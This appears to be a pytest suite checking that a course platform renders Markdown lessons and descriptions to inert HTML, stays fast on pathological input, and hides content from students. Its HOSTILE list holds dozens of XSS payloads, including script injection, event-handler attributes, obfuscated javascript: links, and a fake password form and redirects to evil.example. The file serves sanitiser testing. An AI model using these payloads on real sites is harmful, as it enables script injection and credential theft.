"""Texts are stored as they were written, and shown as HTML that does nothing."""

import re
from html.parser import HTMLParser
from time import process_time

import pytest

from courses.models import Course, Lesson
from schema.base.nodes import global_id

CREATE = """
mutation ($input: CreateCourseInput!) {
  createCourse(input: $input) { course { id description descriptionHtml } }
}
"""
CREATE_LESSON = """
mutation ($input: CreateLessonInput!) {
  createLesson(input: $input) { lesson { id content contentHtml } }
}
"""
COURSE = "query ($id: ID!) { course(id: $id) { descriptionHtml } }"
LESSON = "query ($id: ID!) { lesson(id: $id) { content contentHtml } }"
TAGS = set(
    "h1 h2 h3 h4 h5 h6 p br hr pre code em strong s ul ol li blockquote a img "
    "table thead tbody tr th td".split()
)
ATTRIBUTES = {"href", "title", "rel", "src", "alt", "class", "style", "start"}
LINK = 'rel="nofollow noopener"'
ORDINARY = [
    ("", ""),
    ("Plain text.", "<p>Plain text.</p>\n"),
    ("# One\n\n### Three", "<h1>One</h1>\n<h3>Three</h3>\n"),
    ("*a* **b** ~~c~~", "<p><em>a</em> <strong>b</strong> <s>c</s></p>\n"),
    ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
    ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>\n'),
    ("> a", "<blockquote>\n<p>a</p>\n</blockquote>\n"),
    ("a  \nb\\\nc", "<p>a<br>\nb<br>\nc</p>\n"),
    ("---", "<hr>\n"),
    ("`a < b`", "<p><code>a &lt; b</code></p>\n"),
    (
        "```python\nif a < b:\n    pass\n```",
        '<pre><code class="language-python">if a &lt; b:\n    pass\n</code></pre>\n',
    ),
    (
        "a | b\n--|-:\n1 | 2",
        "<table>\n<thead>\n<tr>\n<th>a</th>\n"
        '<th style="text-align:right">b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n'
        '<td>1</td>\n<td style="text-align:right">2</td>\n</tr>\n</tbody>\n</table>\n',
    ),
    (
        '[a](https://example.com/?b=c&d "e")',
        f'<p><a href="https://example.com/?b=c&amp;d" title="e" {LINK}>a</a></p>\n',
    ),
    ("[a](/courses)", f'<p><a href="/courses" {LINK}>a</a></p>\n'),
    ("[a](mailto:a@b.c)", f'<p><a href="mailto:a@b.c" {LINK}>a</a></p>\n'),
    (
        "<https://example.com>",
        f'<p><a href="https://example.com" {LINK}>https://example.com</a></p>\n',
    ),
    (
        '![a](https://example.com/b.png "c")',
        '<p><img src="https://example.com/b.png" alt="a" title="c"></p>\n',
    ),
    ("a < b & c > d", "<p>a &lt; b &amp; c &gt; d</p>\n"),
    ("&copy; &amp;", "<p>© &amp;</p>\n"),
    ("Ελληνικά 数学 👍", "<p>Ελληνικά 数学 👍</p>\n"),
]
HOSTILE = [
    "<script>alert(1)</script>",
    "<script>alert(1)",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "# <script>alert(1)</script>",
    "> - <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=x><embed src=x>",
    "<form action=//evil.example><input name=password><button>Sign in</button>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<a href=javascript:alert(1) onclick=alert(1)>a</a>",
    "<p style='position:fixed;inset:0'>a</p>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<!-- unclosed <img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><html><body onload=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "</p></div></body><script>alert(1)</script>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a]( javascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](<java\tscript:alert(1)>)",
    "[a](&#106;avascript:alert(1))",
    "[a](&#x6A;&#x61;vascript&colon;alert(1))",
    "[a](javascript&#58;alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](java&NewLine;script:alert(1))",
    "[a](&#1;javascript:alert(1))",
    "[a](\\javascript:alert(1))",
    "[a](javascript\\:alert(1))",
    "[a](%6Aavascript:alert(1))",
    "[a](vbscript:x)",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[a](data:image/png;base64,AAAA)",
    "[a](file:///etc/passwd)",
    "[a](blob:https://example.com/x)",
    "[a](view-source:https://example.com)",
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "![a](data:image/png;base64,AAAA)",
    '![a](x "y\' onerror=alert(1) z")',
    '![a" onerror="alert(1)](x)',
    '![a](x" onerror="alert(1))',
    '[a](x "y" onclick="alert(1)")',
    '[a](x "y&quot; onclick=&quot;alert(1)")',
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[a]: javascript:alert(1)\n\n[a]",
    "[a]: <data:text/html,x> 'b'\n\n[a] ![a]",
    '```"><script>alert(1)</script>\nx\n```',
    "```x onmouseover=alert(1)\nx\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "\\<script>alert(1)\\</script>",
    "**<b onclick=alert(1)>a**",
    "[<img src=x onerror=alert(1)>](x)",
    "[![a](javascript:alert(1))](javascript:alert(1))",
    "<a href='x'\n\nonclick=alert(1)>",
    "<scr\x00ipt>alert(1)</script>",
    "<\u017fcript>alert(1)</\u017fcript>",
    "\u202e<script>alert(1)</script>",
]
# Browsers overlook what is blank before a scheme, and in it.
BLANK = re.compile(r"[\x00-\x20]")
SCHEME = re.compile(r"[\x00-\x20]*([a-z][a-z0-9+.\t\r\n-]*):", re.I)
UNITS = [
    *"[]>*_`<&!(|\\#-~\n\"'",
    *["![", "[a](", "](", "![[](", "[a][", "[a]: ", "[[]", "[](<", "x["],
    *["*a ", "**a ", "_a*", "*a**", "a**b", "*_", "***a", "~~a ", "`a``"],
    *["> ", "- ", "- a\n", "- a\r", "> a\n\n", "1) a\n", "> - ", "a\n", "a\r\n\r\n"],
    *["<!--", "<x ", "<http://a>", "&#", "&amp;", "|a", "| a\n", "```\n", "# a\n"],
]


class Page(HTMLParser):
    """What a browser finds: the tags, the attributes and where links lead."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes, self.schemes = set(), set(), set()
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags.add(tag)
        for name, value in attributes:
            self.attributes.add(name)
            if name in ("href", "src") and (scheme := SCHEME.match(value)):
                self.schemes.add(BLANK.sub("", scheme[1]).lower())

    def handle_comment(self, data):
        self.tags.add("comment")

    handle_decl = handle_pi = unknown_decl = handle_comment


@pytest.fixture
def show(as_instructor, course):
    """Shows a text, however long, as the description of ``course``."""

    def show(text):
        Course.objects.update(description=text)
        answer = as_instructor(COURSE, id=global_id(course))
        return answer.data["course"]["descriptionHtml"]

    return show


@pytest.mark.parametrize(("text", "html"), ORDINARY)
def test_an_ordinary_text(as_instructor, text, html):
    result = as_instructor(CREATE, input={"title": "Algebra", "description": text})

    course = Course.objects.get()
    shown = {"id": global_id(course), "description": text, "descriptionHtml": html}
    assert result.data == {"createCourse": {"course": shown}}
    assert course.description == text


@pytest.mark.parametrize(("text", "html"), ORDINARY)
def test_an_ordinary_lesson(as_instructor, course, text, html):
    given = {"courseId": global_id(course), "title": "Sets", "content": text}

    result = as_instructor(CREATE_LESSON, input=given)

    lesson = Lesson.objects.get()
    shown = {"id": global_id(lesson), "content": text, "contentHtml": html}
    assert result.data == {"createLesson": {"lesson": shown}}
    assert lesson.content == text


@pytest.mark.parametrize("text", [text for text in HOSTILE if "\0" not in text])
def test_a_hostile_text_does_nothing(as_instructor, course, text):
    given = {"courseId": global_id(course), "title": "Sets", "content": text}

    result = as_instructor(CREATE_LESSON, input=given)

    lesson = result.data["createLesson"]["lesson"]
    page = Page(lesson["contentHtml"])
    assert page.tags <= TAGS
    assert page.attributes <= ATTRIBUTES
    assert page.schemes <= {"http", "https", "mailto", "tel"}
    assert lesson["content"] == Lesson.objects.get().content == text


@pytest.mark.parametrize("unit", UNITS)
def test_a_long_text_is_shown_within_a_second(show, unit):
    text = unit * (200_000 // len(unit))
    start = process_time()

    result = show(text)

    assert process_time() - start < 1
    assert Page(result).tags <= TAGS


@pytest.mark.parametrize(
    "text",
    [
        "[" * 5000 + "a" + "](b)" * 5000,
        "![" * 3000 + "a" + "](b)" * 3000,
        "**a" * 4000 + "b**" * 4000,
        "*a " * 9000 + " b*" * 9000,
        "> " * 9000 + "a",
        "".join("  " * n + "- a\n" for n in range(440)),
        " ".join("`" * n for n in range(1, 200)),
        "|a" * 100 + "\n" + "|-" * 100 + "\n" + "a\n" * 180,
        "a|b\n-|-\n" + "a\n" * 6000,
        "".join(f"[{n}]: x\n" for n in range(6000)) + "[1]" * 2000,
    ],
)
def test_a_deep_text_is_shown_within_a_second(show, text):
    start = process_time()

    result = show(text)

    assert process_time() - start < 1
    assert Page(result).tags <= TAGS


def test_a_long_ordinary_text_is_no_hostile_one(show):
    text = "## Sets\n\nA *set* has [members](/x), `a` & `b`. " + "They differ. " * 30
    table = "\n\n" + "a | b | c\n--|--|--\n" + "1 | 2 | 3\n" * 10 + "\n"
    chapter = text + table
    text = chapter * (200_000 // len(chapter))

    result = show(text)

    assert {"h2", "em", "a", "code", "table"} <= Page(result).tags


def test_html_is_for_who_may_read_the_text(as_instructor, as_student, course):
    given = {"courseId": global_id(course), "title": "Sets", "content": "*All.*"}
    lesson = as_instructor(CREATE_LESSON, input=given).data["createLesson"]["lesson"]

    result = as_student(LESSON, id=lesson["id"])

    assert result.data == {"lesson": {"content": None, "contentHtml": None}}
